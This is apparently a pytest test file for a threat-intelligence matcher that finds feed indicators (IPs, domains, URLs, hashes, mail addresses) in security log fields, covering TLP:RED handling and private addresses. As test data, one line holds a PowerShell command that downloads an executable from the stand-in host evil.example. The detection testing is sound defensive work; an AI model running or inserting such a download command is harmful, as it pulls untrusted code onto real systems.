"""What events meet: every kind, only while it holds, no private address, TLP:RED never shown."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hinomi.core.records import Event
from hinomi.core.words import Level
from hinomi.detect.intel import Finder, Indicator, Kind, Look, Tlp
from hinomi.detect.intel.finder import MOST_FOUND, reference_find

if TYPE_CHECKING:
    from collections.abc import Iterable

    from hinomi.detect.found import Found

NOW = datetime(2026, 11, 21, 1, 0, tzinfo=UTC)
LOOKS = {
    "src": Look.SOURCE,
    "dst": Look.DESTINATION,
    "host": Look.NAME,
    "url": Look.URL,
    "Hashes": Look.HASH,
    "from": Look.SENDER,
    "to": Look.RECIPIENT,
    "QueryResults": Look.ANSWERS,
    "CommandLine": Look.TEXT,
    "message": Look.MESSAGE,
}


class Known:
    """Indicators in a dictionary: the naive set."""

    name = "naive"

    def __init__(self, *indicators: Indicator, has_private: bool = False) -> None:
        self._all = {one.key: one for one in indicators}
        self.has_private = has_private
        networks = [one.value for one in indicators if one.kind is Kind.CIDR]
        self.prefixes = {
            version: tuple(
                {int(each.rpartition("/")[2]) for each in networks if (":" in each) == six}
            )
            for version, six in ((4, False), (6, True))
        }

    def find(self, kind: Kind, value: str) -> Indicator | None:
        return self._all.get((kind, value))


def look_of(shape: str, name: str) -> Look | None:
    return LOOKS.get(name)


def event(**fields: str) -> Event:
    return Event(
        event_id="e1",
        organisation="aoi",
        source="s1",
        shape="fortigate",
        device="fw",
        event_time=NOW,
        receive_time=NOW,
        fields=fields,
        raw=b"",
    )


def find(indicators: Iterable[Indicator], **fields: str) -> list[Found]:
    return Finder(Known(*indicators), look_of)(event(**fields))


IP = Indicator(Kind.IP, "45.155.205.233", ("feed",), confidence=90)
NET = Indicator(Kind.CIDR, "45.155.0.0/16", ("feed",))
DOMAIN = Indicator(Kind.DOMAIN, "evil.example", ("feed",))
HOST = Indicator(Kind.HOST, "www.evil.example", ("feed",))
URL = Indicator(Kind.URL, "evil.example/a.php", ("feed",))
MD5 = Indicator(Kind.MD5, "a" * 32, ("feed",))
MAIL = Indicator(Kind.MAIL, "bad@evil.example", ("feed",))


@pytest.mark.parametrize(
    ("indicator", "field", "text"),
    [
        (IP, "dst", "45.155.205.233"),
        (IP, "dst", "45.155.205.233:443"),
        (IP, "dst", "45.155.205.233:443:X1"),
        (IP, "dst", "45.155.205.233/443"),
        (IP, "src", "https(45.155.205.233)"),
        (IP, "dst", "::ffff:45.155.205.233"),
        (IP, "url", "http://45.155.205.233/x"),
        (IP, "QueryResults", "type:  5 a.example;::ffff:45.155.205.233;"),
        (NET, "src", "45.155.1.2"),
        (DOMAIN, "host", "evil.example"),
        (DOMAIN, "host", "a.b.EVIL.example."),
        (DOMAIN, "dst", "c2.evil.example"),
        (DOMAIN, "host", "[evil.example]"),
        (DOMAIN, "url", "https://x.evil.example:8443/p?q"),
        (DOMAIN, "CommandLine", "powershell iwr 'https://x.evil.example/p' -o a.exe"),
        (DOMAIN, "from", "Partner <bad@mail.evil.example>"),
        (HOST, "host", "www.evil.example"),
        (URL, "url", "http://EVIL.example/a.php"),
        (URL, "url", "https://evil.example/a.php?id=5"),
        (MD5, "Hashes", f"SHA256={'b' * 64},MD5={'A' * 32},IMPHASH={'c' * 32}"),
        (MD5, "Hashes", "a" * 32),
        (MAIL, "to", '["x@a.example","BAD@evil.example"]'),
    ],
)
def test_a_field_that_holds_the_value_is_found(indicator: Indicator, field: str, text: str) -> None:
    (found,) = find([indicator], **{field: text})
    assert found.key == "e1"
    (why,) = found.why
    assert (why.field, why.value) == (field, text)
    assert indicator.value in why.pattern
    assert "source: feed" in why.pattern
    assert "TLP:AMBER" in why.pattern


@pytest.mark.parametrize(
    ("indicator", "field", "text"),
    [
        (DOMAIN, "host", "notevil.example"),
        (DOMAIN, "host", "evil.example.com"),
        (HOST, "host", "a.www.evil.example"),
        (HOST, "host", "evil.example"),
        (URL, "url", "http://evil.example/a.phpx"),
        (URL, "url", "http://evil.example/b.php"),
        (replace(MD5, value="c" * 32), "Hashes", f"MD5={'a' * 32},IMPHASH={'c' * 32}"),
        (DOMAIN, "to", "somebody@evil.example"),
        (DOMAIN, "CommandLine", "evil.example"),
        (IP, "user", "45.155.205.233"),
        (IP, "dst", ""),
        (IP, "dst", "9" * 100_000),
    ],
)
def test_what_only_looks_like_it_is_not_found(indicator: Indicator, field: str, text: str) -> None:
    assert find([indicator], **{field: text}) == []


def test_host_and_path_in_two_fields_are_one_url() -> None:
    (found,) = find([URL], url="/a.php", host="evil.example")
    assert found.why[0].value == "evil.example/a.php"


def test_private_addresses_match_only_when_a_person_allowed_one() -> None:
    private = Indicator(Kind.IP, "192.168.1.5", ("feed",))
    assert find([private], dst="192.168.1.5") == []
    assert Finder(Known(private, has_private=True), look_of)(event(dst="192.168.1.5"))


def test_validity_is_held_against_the_time_of_the_event() -> None:
    day = timedelta(days=1)
    over = replace(IP, valid_until=NOW)
    future = replace(IP, valid_from=NOW + day)
    assert find([over], dst=IP.value) == []
    assert find([future], dst=IP.value) == []
    assert find([replace(IP, valid_from=NOW - day, valid_until=NOW + day)], dst=IP.value)
    assert Finder(Known(future), look_of, early=2 * day)(event(dst=IP.value)), "a look back"


@pytest.mark.parametrize(
    ("look", "indicator", "text", "case"),
    [
        ("dst", IP, IP.value, "c2_communication"),
        ("src", IP, IP.value, "attack_seen"),
        ("host", DOMAIN, "evil.example", "phishing_blocked"),
        ("host", replace(DOMAIN, labels=("command-and-control",)), "evil.example",
         "c2_communication"),
        ("dst", replace(IP, name="Phishing kit"), IP.value, "phishing_blocked"),
        ("Hashes", MD5, "a" * 32, "malware_on_pc"),
        ("from", MAIL, "bad@evil.example", "other"),
    ],
    ids=range(7),
)  # fmt: skip
def test_the_case_follows_what_the_field_and_the_feed_say(
    look: str, indicator: Indicator, text: str, case: str
) -> None:
    assert find([indicator], **{look: text})[0].teller.handling.case == case


def test_a_sentence_tells_only_what_no_field_of_its_own_says() -> None:
    text = f"Failed password for root from {IP.value} port 22"
    (alone,) = find([IP], message=text)
    assert alone.teller.handling.case == "other"
    (found,) = find([IP], message=text, src=IP.value)
    assert [why.field for why in found.why] == ["src"]
    assert find([IP], message=f"version 1{IP.value}") == []
    assert find([IP], message=f"name-{IP.value}.5") == []


@pytest.mark.parametrize(
    ("confidence", "level", "certainty"),
    [(90, Level.HIGH, "strong"), (60, Level.MEDIUM, "possible"), (10, Level.LOW, "checking")],
)
def test_a_doubtful_feed_gives_no_alarm(confidence: int, level: Level, certainty: str) -> None:
    teller = find([replace(IP, confidence=confidence)], dst=IP.value)[0].teller
    assert (teller.level, teller.handling.certainty) == (level, certainty)


def test_what_is_tlp_red_is_in_no_text_slot_title_or_id() -> None:
    (red,) = find([replace(IP, tlp=Tlp.RED)], dst=IP.value)
    assert red.slots == {}
    assert IP.value not in f"{red.teller.title} {red.teller.id} {red.teller.handling}"
    (amber,) = find([IP], dst=IP.value)
    assert amber.slots == {"server": IP.value}


def test_one_event_gives_few_findings_the_surest_first() -> None:
    many = [Indicator(Kind.IP, f"45.155.205.{n}", confidence=n) for n in range(1, 100)]
    answers = ";".join(one.value for one in many[:50] + many[60:])
    found = find(many, QueryResults=answers, dst=many[-1].value)
    assert len(found) == MOST_FOUND
    assert found[0].teller.level is Level.HIGH


def test_one_indicator_in_two_fields_is_one_finding_with_two_reasons() -> None:
    (found,) = find(
        [replace(DOMAIN, labels=("c2",))], host="evil.example", url="http://evil.example/"
    )
    assert [why.field for why in found.why] == ["host", "url"]


_TEXTS = st.sampled_from(
    ["45.155.205.233", "45.155.1.1:80", "evil.example", "www.evil.example", "a.evil.example",
     "http://evil.example/a.php?x", "/a.php", "a" * 32, f"MD5={'a' * 32}", "bad@evil.example", "",
     "10.0.0.1", "x.example", "[", "http://[", "https://evil.example/b",
     "from 45.155.205.233 port 22"]
)  # fmt: skip
_EVENTS = st.dictionaries(st.sampled_from([*LOOKS, "user"]), _TEXTS | st.text(max_size=20))


@given(
    st.lists(_EVENTS, max_size=6), st.sets(st.sampled_from([IP, NET, DOMAIN, HOST, URL, MD5, MAIL]))
)
def test_the_finder_with_its_memory_equals_the_reference(
    events: list[dict[str, str]], indicators: set[Indicator]
) -> None:
    known = Known(*indicators)
    finder = Finder(known, look_of)
    for fields in events + events:
        assert finder(event(**fields)) == reference_find(known, look_of, event(**fields))
